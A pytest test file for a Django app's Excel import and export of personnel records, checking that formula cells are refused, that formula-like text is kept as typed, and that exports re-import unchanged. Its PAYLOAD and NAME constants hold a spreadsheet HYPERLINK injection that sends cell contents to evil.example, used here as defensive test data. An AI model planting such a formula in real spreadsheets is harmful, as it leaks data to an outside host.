"""Excel never carries a formula, import side (issue 12 item 4, people-workbook.md «Formulas»):
a cell holding a formula is an error naming its cell — never read as empty or as its cached
result — and the import then changes nothing; text that merely begins with =, +, - or @ is kept
exactly as typed; an export re-imports unchanged."""

import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from tdkt.core import excel
from tdkt.history.exporter import export_workbook
from tdkt.history.importer import run_import
from tdkt.history.models import PersonRating
from tdkt.people.models import Person
from tests.factories import make_person
from tests.history.helpers import PEOPLE_HEADER, book, person

pytestmark = pytest.mark.django_db

ID1, ID2 = "001085000001", "079190000002"
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
NAME = '=HYPERLINK("http://evil.example/?x="&A1, "Xem")'  # two words: a valid full name


def state():
    """Everything an import could change, to prove a refused import changed nothing."""
    return (
        sorted(Person.objects.values_list("id_number", "full_name", "position", "unit__code")),
        sorted(PersonRating.objects.values_list("person__id_number", "year", "rating")),
    )


def with_cached_values(source: io.BytesIO, cached: str) -> io.BytesIO:
    """The workbook as Excel itself saves formulas: `<f>` plus the cached result in `<v>`."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                text = data.decode()
                text = re.sub(r'<c r="([A-Z]+\d+)"><f>(.*?)</f><v\s*/?>(?:</v>)?',
                              rf'<c r="\1" t="str"><f>\2</f><v>{cached}</v>', text)
                data = text.encode()
            zout.writestr(item, data)
    out.seek(0)
    return out


def test_a_formula_cell_is_refused_naming_its_cell_and_nothing_changes():
    make_person("STP-01-VP", "Nguyễn Văn An", id_number=ID1, position="Trưởng phòng")
    before = state()
    workbook = book({"Nhân sự": [
        PEOPLE_HEADER,
        person(ID2, "Trần Thị Bình", "3/7/1990", "Nữ", "STP-01-HCBT"),
        person(ID1, position='=B2&" (kiêm nhiệm)"'),  # a formula cell: row 3, Chức vụ
    ]})
    result = run_import(workbook)
    assert not result.applied
    assert result.problem_lines() == ["Nhân sự!3: Chức vụ — Ô chứa công thức; hãy dán giá trị."]
    assert state() == before  # the stored position is not blanked; Bình is not created


def test_a_formula_with_a_cached_result_is_refused_too():
    """Excel saves the formula's last result beside it; that result is not the typed value."""
    before = state()
    workbook = with_cached_values(book({
        "Nhân sự": [PEOPLE_HEADER, person(ID1, name="=CONCAT(\"Nguyễn \";\"Văn An\")")],
        "Xếp loại": [["Số định danh", "Năm", "Xếp loại"], [ID1, 2024, "=\"HTXS\"&\"NV\""]],
    }), "Nguyễn Văn An")
    result = run_import(workbook)
    assert result.problem_lines() == [
        "Nhân sự!2: Họ và tên — Ô chứa công thức; hãy dán giá trị.",
        "Xếp loại!2: Xếp loại — Ô chứa công thức; hãy dán giá trị.",
    ]
    assert state() == before


def test_formulas_in_the_key_columns_are_refused_not_read_as_missing():
    workbook = book({
        "Nhân sự": [PEOPLE_HEADER, person(ID1), person(ID2, "Trần Thị Bình", unit="=\"STP-01\"")],
        "Danh hiệu": [["Số định danh", "Mã đơn vị", "Năm", "Danh hiệu"],
                      ["=A2", None, 2024, "Lao động tiên tiến"],
                      [None, "=\"STP-01\"", 2024, "Tập thể lao động tiên tiến"]],
    })
    result = run_import(workbook)
    assert result.problem_lines() == [
        "Nhân sự!3: Mã đơn vị — Ô chứa công thức; hãy dán giá trị.",
        "Danh hiệu!2: Số định danh — Ô chứa công thức; hãy dán giá trị.",
        "Danh hiệu!3: Mã đơn vị — Ô chứa công thức; hãy dán giá trị.",
    ]
    assert not Person.objects.filter(id_number__in=[ID1, ID2]).exists()


def test_a_formula_in_a_column_the_import_does_not_read_is_ignored():
    """Extra columns are ignored by the contract, whatever they hold."""
    header = [*PEOPLE_HEADER, "Tuổi (tự tính)"]
    result = run_import(book({"Nhân sự": [header, [*person(ID1), "=2026-YEAR(C2)"]]}))
    assert result.ok, result.problem_lines()
    assert Person.objects.get(id_number=ID1).position == "Chuyên viên"


@pytest.mark.parametrize("text", ["=abc", "-", "+84 912 345 678", "@Phó Trưởng phòng",
                                  PAYLOAD])
def test_text_that_begins_like_a_formula_is_kept_as_typed(text):
    workbook = Workbook()
    ws = workbook.active
    ws.title = "Nhân sự"
    excel.append(ws, PEOPLE_HEADER)
    excel.append(ws, person(ID1, position=text))
    source = io.BytesIO()
    workbook.save(source)
    source.seek(0)
    result = run_import(source)
    assert result.ok, result.problem_lines()
    assert Person.objects.get(id_number=ID1).position == text


def test_an_export_with_formula_like_text_re_imports_unchanged(tmp_path, cast):
    Person.objects.filter(pk=cast.person_a.pk).update(full_name=NAME, position="=abc")
    PersonRating.objects.create(person=cast.person_a, year=2024, rating="HTXSNV")
    path = tmp_path / "out.xlsx"
    export_workbook(path, scope_paths=[cast.unit_a.path])
    sheet = load_workbook(path)["Nhân sự"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    before = state()
    result = run_import(path, scope_paths=[cast.unit_a.path])
    assert result.ok, result.problem_lines()
    assert result.applied
    for sheet_name, counts in result.summary().items():
        assert counts["created"] == counts["updated"] == 0, sheet_name
    assert result.summary()["Nhân sự"]["unchanged"] == 2
    assert state() == before
    person_a = Person.objects.get(pk=cast.person_a.pk)
    assert (person_a.full_name, person_a.position) == (NAME, "=abc")


def test_the_reader_sees_shared_and_array_formulas_including_spilled_cells():
    """Excel stores a shared formula's copies as `<f t="shared" si="0"/>` and the cells an
    array formula spills into with only their cached result; all are formulas."""
    from tdkt.history import xlsx

    source = io.BytesIO()
    Workbook().save(source)
    data = (
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>=abc</t></is></c>'
        '<c r="B1" t="str"><f t="array" ref="B1:C2">A1:B2</f><v>x</v></c>'
        '<c r="C1" t="str"><v>y</v></c><c r="D1"><v>4</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2"><v>1</v></c>'
        '<c r="C2"><v>2</v></c><c r="D2"><f t="shared" ref="D2:D3" si="0">A2</f><v>1</v></c>'
        '</row><row r="3"><c r="D3"><f t="shared" si="0"/><v>2</v></c><c r="E3"><v>5</v></c>'
        '</row></sheetData>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            content = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(r"<sheetData\s*/>|<sheetData>.*</sheetData>", data,
                                 content.decode()).encode()
            if item.filename == "[Content_Types].xml":
                content = content.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings'
                                          b'.xml" ContentType="application/vnd.openxmlformats-'
                                          b'officedocument.spreadsheetml.sharedStrings+xml"/>'
                                          b"</Types>")
            if item.filename == "xl/_rels/workbook.xml.rels":
                content = content.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="'
                                          b"http://schemas.openxmlformats.org/officeDocument/"
                                          b'2006/relationships/sharedStrings" Target="sharedSt'
                                          b'rings.xml"/></Relationships>')
            zout.writestr(item, content)
        zout.writestr("xl/sharedStrings.xml", (
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
            'uniqueCount="1"><si><t>+84 912</t></si></sst>'))
    out.seek(0)
    with xlsx.Book(out) as book:
        rows = dict(book.rows(book.sheets[0]))
    F = xlsx.FORMULA
    assert rows[1] == ("=abc", F, F, 4)
    assert rows[2] == ("+84 912", F, F, F)
    assert rows[3] == (None, None, None, F, 5)
